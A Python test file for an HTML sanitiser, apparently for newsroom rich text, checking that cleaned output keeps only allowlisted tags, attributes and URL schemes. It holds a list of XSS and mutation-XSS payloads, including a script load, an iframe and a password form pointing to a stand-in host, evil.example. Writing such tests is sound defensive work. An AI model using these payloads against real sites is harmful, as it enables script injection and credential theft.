"""The fence of rich text."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from prose.allowlist import CLASSES, ELEMENTS, EVERYWHERE, SCHEMES
from prose.sanitise import clean

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x>'>",
    "<p onclick=alert(1)>mot</p>",
    "<p style='background:url(//evil.example)'>mot</p>",
    "<p class='evil' id='contenu'>mot</p>",
    "<a href='javascript:alert(1)'>lien</a>",
    "<a href='JaVaScRiPt:alert(1)'>lien</a>",
    "<a href=' javascript:alert(1)'>lien</a>",
    "<a href='java\tscript:alert(1)'>lien</a>",
    "<a href='&#106;avascript:alert(1)'>lien</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>lien</a>",
    "<a href='vbscript:x'>lien</a>",
    "<a href='https://ok.example' target=_blank onmouseover=alert(1)>lien</a>",
    "<iframe src=//evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--figure 0-->",
    "<figure data-image='1 onload=x'></figure>",
    "<figure data-image='../../etc'></figure>",
    "<figure data-image='٣'></figure>",
    "<p lang='fr\" onclick=\"x'>mot</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<p>mot<\x00script>alert(1)</script></p>",
    "<td background=//evil.example>x</td>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
]


class Fence(HTMLParser):
    """Reads a text as a browser would and fails on anything that the list does not name."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS, tag
        for name, value in attrs:
            self.check(tag, name, value or "")

    def check(self, tag: str, name: str, value: str) -> None:
        if name == "class":
            assert set(value.split()) <= CLASSES.get(tag, frozenset())
            return
        assert name in ELEMENTS[tag] | EVERYWHERE, (tag, name)
        if name == "href":
            scheme = re.match(r"\s*([a-zA-Z][a-zA-Z0-9+.-]*):", value)
            assert scheme is None or scheme[1].lower() in SCHEMES, value
        if name == "data-image":
            assert re.fullmatch(r"[1-9][0-9]{0,17}", value), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def read(html: str) -> None:
    fence = Fence()
    fence.feed(html)
    fence.close()


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_passes_the_fence(payload: str) -> None:
    for source in (payload, f"<p>Avant {payload} après.</p>", f"<td>{payload}", payload * 2):
        read(clean(source))


def test_the_reader_of_these_tests_does_catch_what_is_hostile() -> None:
    for source in ("<script>", "<p onclick=x>", "<a href='javascript:x'>", "<!--x-->",
                   "<figure data-image='x'>", "<p class='exergue'>"):  # fmt: skip
        with pytest.raises(AssertionError):
            read(source)


@pytest.mark.parametrize("element", ["script", "style", "template", "noscript"])
def test_what_is_no_text_goes_with_its_content(element: str) -> None:
    assert clean(f"<p>a</p><{element}>alert(1)</{element}><p>b</p>") == "<p>a</p><p>b</p>"


def test_an_unknown_element_leaves_its_words() -> None:
    assert clean("<p><font color=red>Un</font> <u>mot</u></p>") == "<p>Un mot</p>"


@pytest.mark.parametrize(
    "source",
    [
        '<p lang="en">Open data</p>',
        '<p><a href="https://www.example.fr/a?b=1&amp;c=2">lien</a></p>',
        '<p><a href="/politique/2025/02/x/">ici</a></p>',
        '<p><a href="mailto:a@example.fr">écrire</a></p>',
        '<figure data-image="12"><figcaption>Légende</figcaption></figure>',
        '<aside class="exergue"><blockquote><p>Mot.</p></blockquote><footer>Nom</footer></aside>',
        '<table><thead><tr><th scope="col">A</th></tr></thead>'
        '<tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        '<p>H<sub>2</sub>O, 1<sup>er</sup>, <abbr title="Agence">ANS</abbr>, <q>mot</q></p>',
        "<h2>Titre</h2><ul><li>un</li></ul><ol><li>deux</li></ol>",
        "<p>1\u00a0000\u202f€ 😀 שלום</p>",
    ],
)
def test_what_a_newsroom_writes_passes_unchanged(source: str) -> None:
    assert clean(source) == source


def test_no_break_spaces_are_characters_and_not_entities() -> None:
    assert clean("<p>10&nbsp;%</p>") == "<p>10\u00a0%</p>"


@pytest.mark.parametrize("empty", ["<p></p>", "<p>&nbsp;</p>", "<p> <br> </p>", "<p>\u00a0</p>\n"])
def test_an_empty_paragraph_is_a_layout_trick(empty: str) -> None:
    assert clean(f"<p>a</p>{empty}<p>b</p>") == "<p>a</p><p>b</p>"


@pytest.mark.parametrize(
    "empty",
    ["<h2></h2>", "<h2> </h2>", "<h3>&nbsp;</h3>", "<ul><li></li><li> </li></ul>", "<ol></ol>",
     "<p><em></em></p>", "<p><strong><em> </em></strong><br></p>", '<p lang="en"></p>',
     "<h2><strong>&nbsp;</strong></h2>"],
)  # fmt: skip
def test_a_block_without_a_word_is_one_too(empty: str) -> None:
    assert clean(f"<p>a</p>{empty}<p>b</p>") == "<p>a</p><p>b</p>"


def test_blanks_in_bold_still_part_two_words() -> None:
    assert clean("<p>Un<strong> </strong>mot<em></em>.</p>") == "<p>Un mot.</p>"


def test_cells_and_the_lines_of_a_block_may_wait_for_their_words() -> None:
    for source in (
        "<table><tbody><tr><th></th><td></td></tr></tbody></table>",
        '<figure data-image="12"><figcaption></figcaption></figure>',
        '<aside class="exergue"><blockquote></blockquote><footer>Anne</footer></aside>',
        "<blockquote></blockquote>",
    ):
        assert clean(source) == source


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        (
            "<h1>Gros titre</h1><div>Un</div><div>Deux</div><p>Trois</p>",
            "<h2>Gros titre</h2><p>Un</p><p>Deux</p><p>Trois</p>",
        ),
        ("<h4>A</h4><h6>B</h6>", "<h3>A</h3><h3>B</h3>"),
        ("<div><p>Un</p><p>Deux</p></div>fin", "<p>Un</p><p>Deux</p><p>fin</p>"),
        ("<div><div>Un</div>deux</div>trois", "<p>Un</p><p>deux</p><p>trois</p>"),
        ("<p>Un<div>deux</div>trois</p>", "<p>Un</p><p>deux</p><p>trois</p>"),
        ("<dl><dt>Mot</dt><dd>Sens</dd></dl>", "<p>Mot</p><p>Sens</p>"),
        ("<pre>\nun\n  deux\n</pre>", "<p>un<br>  deux</p>"),
        ('<div lang="en" class="x" style="color:red">Open</div>', '<p lang="en">Open</p>'),
        ("<ul><li><div>Un</div></li></ul>", "<ul><li><p>Un</p></li></ul>"),
        ("<DIV>Un</DIV><MAIN>Deux</MAIN>", "<p>Un</p><p>Deux</p>"),
    ],
)
def test_the_words_of_unknown_blocks_are_not_glued(source: str, kept: str) -> None:
    assert clean(source) == kept
    assert clean(kept) == kept


@pytest.mark.parametrize("language", ["en", "pt-BR", "zh-Hant-TW"])
def test_a_language_is_kept(language: str) -> None:
    assert f'lang="{language}"' in clean(f'<p lang="{language}">x</p>')


@pytest.mark.parametrize("language", ["", "x", "en;", "français", "en us"])
def test_what_is_no_language_is_dropped(language: str) -> None:
    assert clean(f'<p lang="{language}">x</p>') == "<p>x</p>"


PIECES = st.lists(
    st.sampled_from([*HOSTILE, "<p>", "</p>", "<p> </p>", "<h2>", "&nbsp;", "&lt;", "&", "mot", "<",
                     "<table>", "<tr>", "<td>", "</table>", "<aside class=exergue>", "<br>", "<li>",
                     "\u00a0", "\n", "<figure data-image=3>", "</figure>", "<p><br></p>",
                     "<h1>", "</h1>", "<div>", "</div>", "<pre>", "</pre>", "<dt>", "<em>", "</em>",
                     "<blockquote>", "<footer>", "<abbr title='<div>'>", "<li> </li>", "<ul>"])
    | st.text(max_size=8),
    max_size=8,
).map("".join)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(PIECES)
def test_cleaning_twice_is_cleaning_once_and_what_is_left_is_on_the_list(source: str) -> None:
    once = clean(source)
    assert clean(once) == once
    read(once)
